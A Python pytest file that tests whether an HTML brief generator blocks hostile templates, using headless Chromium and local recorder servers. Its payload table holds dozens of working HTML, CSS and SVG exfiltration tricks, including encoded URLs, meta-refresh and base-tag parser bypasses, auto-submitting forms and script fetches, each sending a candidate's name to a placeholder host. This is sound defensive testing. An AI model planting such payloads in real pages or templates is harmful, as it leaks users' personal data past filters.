"""Hostile coach templates against a real browser: the HTML brief reaches nothing in Chromium.

Each payload is a coach's template as an attacker would write it, sending the candidate's name to
a server of its own on 127.0.0.1 (a random port, one server per payload, recording every
connection and request). For each one either briefgen refuses it (exit 1, nothing written), or
the HTML it writes, opened from disk in headless Chromium, makes no connection to the server and
trips no Content-Security-Policy (the policy is the second fence: nothing may lean on it). The
same template rendered without briefgen's policy, opened the same way, shows that the payload
is live where the table says so: the server sees the request, so the test can see a leak.

Skipped only when no chromium binary exists; ``make test`` installs Debian's where it can.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import http.server
import os
import re
import shutil
import signal
import subprocess
import tempfile
import threading
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from briefgen.cli import cli
from briefgen.pipeline import prepare
from briefgen.templating.html_policy import CONTENT_SECURITY_POLICY
from briefgen.themes import theme_names

from ..conftest import REFERENCE, raw_html, sample_files

CHROMIUM = shutil.which("chromium") or (
    "/usr/bin/chromium" if os.access("/usr/bin/chromium", os.X_OK) else None)
pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="no chromium binary (/usr/bin/chromium or chromium on PATH); make test "
                             "installs Debian's chromium when it runs as root with apt-get")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--enable-logging=stderr", "--v=0", "--dump-dom"]
SETTLE = "--virtual-time-budget=3000"  # let loads run, in virtual time: done as soon as they are
# Many frames at once never settle in virtual time (some mixes of frames hang it): real time then.
SETTLE_FRAMES = "--timeout=5000"
NAME = yaml.safe_load(REFERENCE.read_text(encoding="utf-8"))["candidate"]["name"]
LEAK = "http://@HOST@/leak?n={{ candidate.name|urlencode }}"  # @HOST@: the payload's server
PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="8" '
       'height="8">')


def page(head: str = "", body: str = "") -> str:
    """A coach's template that keeps the brief and adds ``head`` and ``body`` markup."""
    return ('{% extends "base/brief.html" %}\n'
            f"{{% block head %}}{head}{{% endblock %}}\n"
            f"{{% block footer %}}{body}{{{{ super() }}}}{{% endblock %}}\n")


# The opening attack: a '>' in <head>'s attribute hid the policy, then an entity-encoded image.
HEAD_ATTRIBUTE = """<!DOCTYPE html>
<html lang="en">
<head data-x="a>b">
<meta charset="utf-8"><title>{{ candidate.name }}</title>
</head>
<body><h1>{{ candidate.name }}</h1>
<img src="&#104;ttp://@HOST@/leak?n={{ candidate.name|urlencode }}">
</body>
</html>
"""

# id: (template, live): live means Chromium fetches it when nothing stops it (checked below).
PAYLOADS: dict[str, tuple[str, bool]] = {
    "head-attribute-entity-img": (HEAD_ATTRIBUTE, True),
    "img": (page(body=f'<img src="{LEAK}">'), True),
    "img-entity": (page(body='<img src="&#104;ttp://@HOST@/leak?n={{ candidate.name|urlencode }}">'),
                   True),
    "img-spaces-tab-newline": (page(body='<img src=" \t h&#9;tt&#10;p://@HOST@/leak?n=1 ">'), True),
    "img-case": (page(body='<img src="HtTp://@HOST@/leak">'), True),
    "img-scheme-relative": (page(body='<img src="//@HOST@/leak">'), False),  # file://host/leak
    "img-srcset": (page(body=f'<img srcset="{PIXEL} 1x, {LEAK} 4x" sizes="8px">'), False),
    "img-srcset-only": (page(body=f'<img srcset="{LEAK} 1x">'), True),
    "picture-source": (page(body=f'<picture><source srcset="{LEAK}"><img src="{PIXEL}"></picture>'),
                       True),
    "stylesheet": (page(head=f'<link rel="stylesheet" href="{LEAK}">'), True),
    "stylesheet-data-import": (page(head='<link rel="stylesheet" href="data:text/css,'
                                         '@import url(http://@HOST@/leak);">'), True),
    **{f"link-{rel}": (page(head=f'<link rel="{rel}" href="http://@HOST@/leak">'), live)
       for rel, live in (("prefetch", True), ("preload", False), ("dns-prefetch", False),
                         ("preconnect", True), ("modulepreload", True), ("prerender", False))},
    "link-preload-as-image": (page(head='<link rel="preload" as="image" href="http://@HOST@/leak">'),
                              True),
    "link-icon": (page(head='<link rel="icon" href="http://@HOST@/leak">'), False),  # not headless
    "style-url": (page(head=f"<style>html {{ background: url({LEAK}) }}</style>"), True),
    "style-url-escaped": (page(head="<style>html { background: u\\72l(http://@HOST@/leak) }</style>"),
                          True),
    "style-import": (page(head='<style>@import "http://@HOST@/leak";</style>'), True),
    "style-image-set": (page(head='<style>html { background-image: image-set("http://@HOST@/leak" 1x)'
                                  " }</style>"), True),
    "style-font-face": (page(head="<style>@font-face { font-family: X; src: url(http://@HOST@/leak) }"
                                  ' main::after { content: "x"; font-family: X }</style>'), True),
    "style-attribute": (page(body='<p style="background:url(&#104;ttp://@HOST@/leak)">x</p>'), True),
    "style-attribute-image-set": (page(body="<p style=\"background-image:image-set('http://@HOST@/leak'"
                                            ' 1x)">x</p>'), True),
    "video-poster": (page(body='<video poster="http://@HOST@/leak"></video>'), True),
    "video-src": (page(body='<video src="http://@HOST@/leak" preload="auto"></video>'), True),
    "object-data": (page(body='<object data="http://@HOST@/leak"></object>'), True),
    "embed": (page(body='<embed src="http://@HOST@/leak">'), True),
    "iframe": (page(body=f'<iframe src="{LEAK}"></iframe>'), True),
    "iframe-srcdoc": (page(body='<iframe srcdoc="<img src=http://@HOST@/leak>"></iframe>'), True),
    "form-auto-submit": (page(body=f'<form id="f" action="{LEAK}" method="post"><input name="n" '
                                   'value="{{ candidate.name }}"></form>'
                                   "<script>document.getElementById('f').submit()</script>"), True),
    "form-button": (page(body=f'<form><button formaction="{LEAK}">send</button></form>'), False),
    "script-fetch": (page(body="<script>fetch('http://@HOST@/leak')</script>"), True),
    "refresh": (page(head='<meta http-equiv="refresh" content="0; url=http://@HOST@/leak">'), True),
    "refresh-after-empty-comment": (
        page(head='<!--><meta http-equiv="refresh" content="0; url=http://@HOST@/leak">-->'), True),
    "refresh-after-script-x": (
        page(head='<script></script x><meta http-equiv=Refresh content="0;url=http://@HOST@/leak">'),
        True),
    "refresh-in-noscript": (
        page(head='<noscript><meta http-equiv="refresh" content="0; url=http://@HOST@/leak">'
                  "</noscript>"), False),  # Chromium runs with scripting on: inert, still refused
    "noscript-attribute-escape": (
        page(body='<noscript><p title="</noscript><img src=http://@HOST@/leak>"></p></noscript>'), True),
    "base-then-relative-img": (page(head='<base href="http://@HOST@/">',
                                    body='<img src="leak">'), True),
    "base-after-script-x": (page(head='<script></script x><base href="http://@HOST@/">',
                                 body='<img src="leak">'), True),
    "svg-image-href": (page(body=f'{SVG}<image href="{LEAK}" width="8" height="8"/></svg>'), True),
    "svg-image-xlink": (page(body=f'{SVG}<image xlink:href="{LEAK}" width="8" height="8"/></svg>'),
                        True),
    "svg-use-external": (page(body=f'{SVG}<use href="http://@HOST@/leak#a"/></svg>'), False),
    "svg-fe-image": (page(body=f'{SVG}<filter id="f"><feImage href="http://@HOST@/leak"/></filter>'
                               '<rect width="8" height="8" filter="url(#f)"/></svg>'), True),
    "svg-style-entity": (page(body=f"{SVG}<style>rect {{ fill: url(&#104;ttp://@HOST@/leak#p) }}"
                                   '</style><rect width="8" height="8"/></svg>'), True),
    "a-ping-clicked": (page(body='<a id="p" href="#x" ping="http://@HOST@/leak">x</a>'
                                 "<script>document.getElementById('p').click()</script>"), True),
    "a-ping": (page(body='<a href="#x" ping="http://@HOST@/leak">x</a>'), False),  # needs a click
    "template-shadow-root": (page(body='<div><template shadowrootmode="open"><img src="http://@HOST@'
                                       '/leak"></template></div>'), True),
    "template-inert": (page(body='<template><img src="http://@HOST@/leak"></template>'), False),
    # Allowed by briefgen, and Chromium must agree that they fetch nothing:
    "hyperlink": (page(body=f'<a href="{LEAK}">portfolio</a>'), False),
    "svg-hyperlink": (page(body=f'{SVG}<a href="{LEAK}"><text y="8">x</text></a></svg>'), False),
    "data-svg-image-with-external-image": (page(
        body="<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='8' "
             "height='8'><image href='http://@HOST@/leak' width='8' height='8'/></svg>\">"), False),
    "css-data-svg-filter": (page(head="<style>main { filter: url(\"data:image/svg+xml,%3Csvg xmlns="
                                      "'http://www.w3.org/2000/svg'%3E%3Cfilter id='f'%3E%3CfeImage "
                                      "href='http://@HOST@/leak'/%3E%3C/filter%3E%3C/svg%3E#f\") }"
                                      "</style>"), False),
    "coach-policy-with-report-uri": (page(
        head="<meta http-equiv=\"Content-Security-Policy\" content=\"img-src 'none'; "
             'report-uri http://@HOST@/leak">', body=f'<img src="{PIXEL}">'), False),
}


class Recorder(http.server.ThreadingHTTPServer):
    """A loopback server that records every connection and every request line."""

    daemon_threads = True

    def __init__(self) -> None:
        self.connections = 0
        self.requests: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)

    def process_request(self, request, client_address):  # a preconnect sends no request line
        self.connections += 1
        super().process_request(request, client_address)

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"


class _Handler(http.server.BaseHTTPRequestHandler):
    def _answer(self) -> None:
        self.server.requests.append(f"{self.command} {self.path}")  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_HEAD = do_OPTIONS = do_PUT = _answer

    def log_message(self, *args) -> None:
        pass


@dataclass
class Outcome:
    refused: bool = False
    output: str = ""  # the CLI's message when refused
    dom: str = ""  # Chromium's --dump-dom of the written brief
    console: str = ""
    hits: tuple[int, list[str]] = (0, [])  # connections and requests while the written brief was open
    raw_hits: tuple[int, list[str]] = (0, [])  # the same, for the template without the policy


def open_in_chromium(path: Path, *, settle: str = SETTLE, timeout: float = 90) -> tuple[str, str]:
    """Chromium's DOM of ``path`` once loads settle, and its console (stderr). Chromium runs in a
    session of its own, so a timeout ends it and every process it started, and nothing else."""
    with tempfile.TemporaryDirectory(prefix="briefgen-chromium-", ignore_cleanup_errors=True) as profile:
        process = subprocess.Popen([CHROMIUM, *FLAGS, settle, f"--user-data-dir={profile}", path.as_uri()],
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                   start_new_session=True)
        try:
            return process.communicate(timeout=timeout)
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)  # helpers left behind, or all on a timeout
            process.wait()


def violations(console: str) -> list[str]:
    """Chromium's console lines for what briefgen's policy blocked (not a coach's own policy)."""
    ours = {d.strip() for d in CONTENT_SECURITY_POLICY.split(";")}
    return [line for line in console.splitlines()
            if (m := re.search(r'Content Security Policy directive: "([^"]*)"', line)) and m[1] in ours]


def snapshot(server: Recorder) -> tuple[int, list[str]]:
    return server.connections, list(server.requests)


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory) -> dict[str, Outcome]:
    """Every payload rendered through the CLI; what was written opened in Chromium, each on its own,
    then every template without the policy, to see which payloads are live."""
    from click.testing import CliRunner

    root = tmp_path_factory.mktemp("hostile")
    servers = {key: Recorder() for key in PAYLOADS}
    for server in servers.values():
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    results: dict[str, Outcome] = {}
    opened: list[tuple[str, Path]] = []
    try:
        for key, (template, _) in PAYLOADS.items():
            folder = root / key
            folder.mkdir()
            (folder / "brief.html").write_text(template.replace("@HOST@", servers[key].host),
                                               encoding="utf-8")
            out = root / f"{key}.html"
            result = CliRunner().invoke(cli, ["render", str(REFERENCE), "--templates", str(folder),
                                              "-f", "html", "-o", str(out)])
            outcome = results[key] = Outcome(refused=result.exit_code != 0, output=result.output)
            if outcome.refused:
                assert result.exit_code == 1 and not out.exists(), result.output
            else:
                opened.append((key, out))
            raw = root / f"{key}.raw.html"  # what the template says, without briefgen's policy
            raw.write_text(raw_html(prepare(REFERENCE, templates=folder)), encoding="utf-8")
        # Written briefs first, all at once: nothing else talks to the servers meanwhile.
        with concurrent.futures.ThreadPoolExecutor(max_workers=3) as pool:
            for (key, _), (dom, console) in zip(opened, pool.map(open_in_chromium, (o[1] for o in opened)),
                                                strict=True):
                results[key].dom, results[key].console = dom, console
        for key in results:
            results[key].hits = snapshot(servers[key])
        # The unprotected pages in one Chromium, a frame each (a launch costs a second or two).
        frames = "".join(f'<iframe src="{key}.raw.html"></iframe>' for key in PAYLOADS)
        (root / "raw.html").write_text(f"<!DOCTYPE html><title>raw</title>{frames}", encoding="utf-8")
        open_in_chromium(root / "raw.html", settle=SETTLE_FRAMES)
        for key in results:
            connections, requests = snapshot(servers[key])
            before = results[key].hits
            results[key].raw_hits = (connections - before[0], requests[len(before[1]):])
    finally:
        for server in servers.values():
            server.shutdown()
            server.server_close()
    return results


@pytest.mark.parametrize("key", PAYLOADS)
def test_hostile_template_is_refused_or_reaches_nothing_in_chromium(outcomes, key):
    outcome = outcomes[key]
    if outcome.refused:
        assert "not allowed in a template" in outcome.output and "Traceback" not in outcome.output
    else:
        assert outcome.hits == (0, []), outcome.hits
        assert NAME in outcome.dom  # it rendered
        assert violations(outcome.console) == []  # nothing even tried
    if PAYLOADS[key][1]:  # the payload is real: without the policy Chromium does reach the server
        assert outcome.raw_hits[0] > 0, f"{key}: the unprotected page reached nothing; is it live?"


# What briefgen writes rather than refuses: links (a click, not a fetch), a data: SVG image (an
# image loads nothing more), a coach's own policy (it can only narrow ours). Chromium agrees above.
WRITTEN = {"hyperlink", "svg-hyperlink", "data-svg-image-with-external-image", "css-data-svg-filter",
           "coach-policy-with-report-uri"}


def test_only_what_fetches_nothing_is_written(outcomes):
    assert {key for key, outcome in outcomes.items() if not outcome.refused} == WRITTEN


def test_the_attacks_that_beat_the_old_checks_are_refused(outcomes):
    for key in ("head-attribute-entity-img", "refresh-after-empty-comment", "refresh-after-script-x",
                "base-after-script-x"):
        assert outcomes[key].refused, key


CLEAN = [(REFERENCE, theme) for theme in theme_names()] + [(sample, None) for sample in sample_files()]


@pytest.mark.parametrize("brief,theme", CLEAN, ids=[f"{b.stem}-{t or 'own'}" for b, t in CLEAN])
def test_clean_brief_renders_in_chromium_and_reaches_nothing(runner, tmp_path, brief, theme):
    server = Recorder()
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        out = tmp_path / "brief.html"
        args = ["render", str(brief), "-f", "html", "-o", str(out)] + (["--theme", theme] if theme else [])
        result = runner.invoke(cli, args)
        assert result.exit_code == 0, result.output
        dom, console = open_in_chromium(out)
    finally:
        server.shutdown()
        server.server_close()
    assert snapshot(server) == (0, [])
    name = yaml.safe_load(brief.read_text(encoding="utf-8"))["candidate"]["name"]
    assert name in dom
    head = re.search(r"<head>(.*?)</head>", dom, re.S)
    assert head and head.group(1).startswith(
        f'<meta http-equiv="Content-Security-Policy" content="{CONTENT_SECURITY_POLICY}">')
    assert violations(console) == []  # the policy blocks nothing a brief uses
